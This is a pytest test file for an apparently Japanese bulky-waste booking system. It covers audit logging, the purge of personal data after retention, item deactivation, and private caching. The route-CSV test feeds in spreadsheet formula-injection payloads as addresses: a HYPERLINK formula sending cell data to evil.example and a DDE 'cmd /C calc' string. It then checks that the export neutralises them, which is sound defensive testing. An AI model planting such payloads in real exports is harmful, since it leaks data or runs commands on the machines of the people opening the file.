"""Every staff action on a booking is audited (page and API), set-up changes are audited
as field diffs, personal data is purged by collection date + period whatever the status,
items in use are deactivated rather than deleted, and exports are neutralised and private."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.test import Client
from django.utils import timezone

from accounts import roles
from accounts.models import AuditEntry
from intake.bulky.models import Booking, BookingEvent, BookingLine, BookingLink, BulkySettings, Closure, Item
from portal import retention
from portal.tasks import purge_personal_data
from tests.fixtures.bulky import bookable_date, setup_form, uid


@pytest.fixture
def book(bulky_setup, open_booking_page):
    def make(n: int, *, days: int = 7, address: str = "福岡市中央区天神1-8-1", qty: int = 1) -> Booking:
        page = open_booking_page(uid(n))
        form = page.form(
            area=bulky_setup.chuo.pk,
            collection_date=bookable_date(days).isoformat(),
            address=address,
            items={bulky_setup.chair: qty},
        )
        assert page.book(form).status_code == 302
        return Booking.objects.latest("pk")

    return make


def _entries(action: str, booking: Booking) -> list[AuditEntry]:
    return list(AuditEntry.objects.filter(action=action, target_id=str(booking.pk)))


def test_every_api_action_is_audited_like_retrieve(book, waste_client, make_staff):
    first, second, third = book(20), book(21), book(22)
    calls = [
        (first, "approve", {}, "bulky.booking_approved"),
        (first, "note", {"note": "玄関前に置く"}, "bulky.booking_noted"),
        (first, "reschedule", {"new_date": bookable_date(9).isoformat()}, "bulky.booking_rescheduled"),
        (first, "collect", {}, "bulky.booking_collected"),
        (second, "reject", {"reason": "品目が確認できません"}, "bulky.booking_rejected"),
        (third, "cancel", {}, "bulky.booking_cancelled"),
    ]
    for booking, action, body, audit_action in calls:
        response = waste_client.post(f"/bulky/api/bookings/{booking.pk}/{action}/", body, content_type="application/json")
        assert response.status_code == 200, (action, response.content)
        assert "address" in response.json()  # the answer shows personal data …
        [entry] = _entries(audit_action, booking)  # … so it is audited
        assert entry.actor.email and entry.detail["via"] == "api" and entry.detail["result"] == "done"
    assert _entries("bulky.booking_rescheduled", first)[0].detail["to"] == bookable_date(9).isoformat()
    # A refused action is audited too (it reached the booking).
    response = waste_client.post(f"/bulky/api/bookings/{third.pk}/approve/")
    assert response.status_code == 409
    assert _entries("bulky.booking_approved", third)[0].detail["result"] == "refused"


def test_page_actions_are_audited(book, waste_client):
    booking = book(23)
    waste_client.post(f"/bulky/bookings/{booking.pk}/approve/")
    waste_client.post(f"/bulky/bookings/{booking.pk}/note/", {"note": "メモ"})
    assert _entries("bulky.booking_approved", booking)[0].detail["via"] == "page"
    assert len(_entries("bulky.booking_noted", booking)) == 1


def test_set_up_changes_are_audited_with_field_diffs(bulky_setup, waste_client):
    settings_form = setup_form(retention_days=365, payment_note=BulkySettings.load().payment_note)
    assert waste_client.post("/bulky/setup/", settings_form).status_code == 302
    entry = AuditEntry.objects.get(action="bulky.settings_changed")
    assert entry.detail["changes"]["retention_days"] == [180, 365]
    assert "payment_note" not in entry.detail["changes"]  # only what changed

    chair = bulky_setup.chair
    item_form = {
        "name": "椅子",
        "category": "家具",
        "fee_yen": 800,
        "size_points": 1,
        "accepted": "on",
        "order": 1,
        "is_active": "on",
    }
    assert waste_client.post(f"/bulky/setup/items/{chair.pk}/", item_form).status_code == 302
    entry = AuditEntry.objects.get(action="bulky.item_changed", target_id=str(chair.pk))
    assert entry.detail["changes"] == {"fee_yen": [500, 800]}
    response = waste_client.patch(f"/bulky/api/items/{chair.pk}/", {"size_points": 2}, content_type="application/json")
    assert response.status_code == 200
    assert AuditEntry.objects.filter(action="bulky.item_changed", detail__changes__size_points=[1, 2]).exists()
    response = waste_client.post("/bulky/api/items/", {"name": "本棚", "fee_yen": 1000}, content_type="application/json")
    created = AuditEntry.objects.get(action="bulky.item_created", target_id=str(response.json()["id"]))
    assert created.detail["changes"]["name"] == [None, "本棚"]

    area = bulky_setup.hakata
    response = waste_client.post(
        f"/bulky/setup/areas/{area.pk}/", {"weekdays": ["1", "4"], "capacity_points": 25, "is_active": "on"}
    )
    assert response.status_code == 302
    entry = AuditEntry.objects.get(action="bulky.area_changed", target_id=str(area.pk))
    assert entry.detail["changes"] == {"weekdays": ["0123456", "14"], "capacity_points": [10, 25]}

    date = bookable_date(12)
    assert waste_client.post("/bulky/setup/closures/", {"date": date.isoformat(), "reason": "市の行事"}).status_code == 302
    closure = Closure.objects.get()
    added = AuditEntry.objects.get(action="bulky.closure_added")
    assert added.detail["changes"]["date"] == [None, date.isoformat()] and added.detail["changes"]["reason"] == [None, "市の行事"]
    assert waste_client.post(f"/bulky/setup/closures/{closure.pk}/delete/").status_code == 302
    removed = AuditEntry.objects.get(action="bulky.closure_deleted")
    assert removed.detail["changes"]["reason"] == ["市の行事", None] and removed.target_id == str(closure.pk)


def test_a_400_day_old_confirmed_booking_loses_everything_personal(book, waste_client):
    old = book(30, days=5, address="福岡市中央区大名2-2-2")
    waste_client.post(f"/bulky/bookings/{old.pk}/approve/")  # 確認済, never collected
    waste_client.post(f"/bulky/bookings/{old.pk}/note/", {"note": "山田様 090-9999-0000 に連絡"})
    waste_client.post(f"/bulky/bookings/{old.pk}/reschedule/", {"new_date": bookable_date(6).isoformat()})
    rejected = book(31, days=5)
    waste_client.post(f"/bulky/bookings/{rejected.pk}/reject/", {"reason": "山田様から電話あり"})
    BulkySettings.objects.filter(pk=1).update(latest_days_ahead=330)
    recent = book(32, days=300)  # far ahead: kept (its collection date + period is not past)
    assert retention.stores() and "bulky.bookings" in [s.key for s in retention.stores()]

    with time_machine.travel(timezone.now() + dt.timedelta(days=400), tick=False):
        result = purge_personal_data.apply().get()["bulky.bookings"]
        again = purge_personal_data.apply().get()["bulky.bookings"]
    assert result["bookings"] == 2 and result["events"] >= 2
    assert again["bookings"] == 0 and again["events"] == 0  # idempotent
    for booking in (old, rejected):
        booking.refresh_from_db()
        assert booking.status in (Booking.Status.CONFIRMED, Booking.Status.REJECTED)
        assert (booking.address, booking.phone, booking.staff_notes, booking.rejection_reason) == ("", "", "", "")
        assert booking.resident_id is None and booking.personal_data_purged_at
        assert booking.number and booking.total_fee_yen == 500  # the record itself stays
        assert not BookingEvent.objects.filter(booking=booking).exclude(detail={}).exists()
    recent.refresh_from_db()
    assert recent.address and recent.resident_id
    assert not BookingLink.objects.filter(expires_at__lt=timezone.now()).exists()
    entry = AuditEntry.objects.filter(action="retention.purged", target_id="bulky.bookings").order_by("pk").first()
    assert entry.detail["bookings"] == "1〜49" and entry.detail["period_days"] == 180
    # The staff page says the data is gone; no 500; no new free text on a purged booking.
    assert "保存期間を過ぎたため消去しました" in waste_client.get(f"/bulky/bookings/{old.pk}/").content.decode()
    response = waste_client.post(
        f"/bulky/api/bookings/{old.pk}/note/", {"note": "電話 090-1111-2222"}, content_type="application/json"
    )
    assert response.status_code == 409
    old.refresh_from_db()
    assert old.staff_notes == ""


def test_the_retention_period_is_the_waste_desks_setting(book):
    booking = book(33, days=5)
    BulkySettings.objects.filter(pk=1).update(retention_days=30)
    with time_machine.travel(timezone.now() + dt.timedelta(days=34), tick=False):
        assert purge_personal_data.apply().get()["bulky.bookings"]["bookings"] == 0
    with time_machine.travel(timezone.now() + dt.timedelta(days=37), tick=False):
        assert purge_personal_data.apply().get()["bulky.bookings"]["bookings"] == 1
    booking.refresh_from_db()
    assert booking.address == ""


def test_deleting_an_item_in_use_deactivates_it(book, bulky_setup, waste_client):
    booking = book(40)
    chair = bulky_setup.chair
    response = waste_client.delete(f"/bulky/api/items/{chair.pk}/")
    assert response.status_code == 200 and response.json()["deactivated"] is True
    chair.refresh_from_db()
    assert chair.is_active is False and BookingLine.objects.filter(booking=booking, item=chair).exists()
    assert AuditEntry.objects.filter(action="bulky.item_changed", detail__changes__is_active=[True, False]).exists()
    assert f'id="qty_{chair.pk}"' not in Client().get("/bulky/r/").content.decode()
    assert waste_client.get(f"/bulky/bookings/{booking.pk}/").status_code == 200

    response = waste_client.delete(f"/bulky/api/items/{bulky_setup.bike.pk}/")  # unused: really deleted
    assert response.status_code == 204 and not Item.objects.filter(pk=bulky_setup.bike.pk).exists()
    assert AuditEntry.objects.filter(action="bulky.item_deleted", target_id=str(bulky_setup.bike.pk)).exists()


def test_route_csv_neutralises_formulas_and_is_private(book, bulky_setup, waste_client):
    book(41, address='=HYPERLINK("http://evil.example/?x="&A1,"詳細")')
    book(42, address="@SUM(1+1)*cmd|' /C calc'!A0")
    params = {"area": bulky_setup.chuo.pk, "date": bookable_date(7).isoformat()}
    response = waste_client.get("/bulky/routes.csv", params)
    assert response.status_code == 200 and "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    addresses = [row[1] for row in rows[1:]]
    assert sorted(addresses) == sorted(['\'=HYPERLINK("http://evil.example/?x="&A1,"詳細")', "'@SUM(1+1)*cmd|' /C calc'!A0"])
    assert all(not cell.startswith(("=", "@", "+", "-")) for row in rows for cell in row)


def test_pages_and_api_answers_with_personal_data_are_not_stored(book, waste_client, make_staff):
    booking = book(43)
    for path in (f"/bulky/bookings/{booking.pk}/", f"/bulky/api/bookings/{booking.pk}/", "/bulky/", "/bulky/routes/"):
        response = waste_client.get(path)
        assert response.status_code == 200, path
        assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"], path
    road = Client()
    road.force_login(make_staff(roles.ROAD))
    assert road.get(f"/bulky/bookings/{booking.pk}/").status_code == 403
